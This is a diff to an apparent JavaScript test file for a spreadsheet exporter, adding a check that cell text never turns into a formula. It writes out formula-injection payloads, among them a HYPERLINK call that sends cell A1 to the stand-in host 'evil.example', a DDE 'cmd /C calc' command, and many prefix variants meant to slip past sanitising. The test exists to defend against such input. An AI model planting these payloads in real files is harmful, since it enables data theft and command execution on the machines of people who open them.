@@ -42,9 +42,29 @@ test('a spreadsheet holds its column names, numbers as numbers and text unchange
 })
 
 test('text never becomes a formula', async () => {
-  const { xml } = await reopen(REMARKS.map((remark) => [remark]))
+  const starts = [
+    '=',
+    '+',
+    '-',
+    '@',
+    '\r=',
+    '\n=',
+    ' =',
+    '＝',
+    '"=',
+    "'=",
+    ';=',
+    '=\u200b',
+    '\ufeff=',
+    '==',
+  ]
+  const calls = ['HYPERLINK("https://evil.example?"&A1,"x")', "cmd|' /C calc'!A0"]
+  const payloads = starts.flatMap((start) => calls.map((call) => start + call))
+  const { sheet, xml } = await reopen([...REMARKS, ...payloads].map((remark) => [remark]))
   expect(xml).toContain('=1+1')
-  expect(xml).not.toMatch(/<f[\s>]/)
+  expect(xml).not.toMatch(/<f[\s>]|externalLink/)
+  for (const [at, payload] of payloads.entries())
+    expect(String(sheet.getCell(REMARKS.length + 2 + at, 1).value)).toEndWith(payload.trim())
 })
 
 test('text that looks like an escaped character is escaped', async () => {
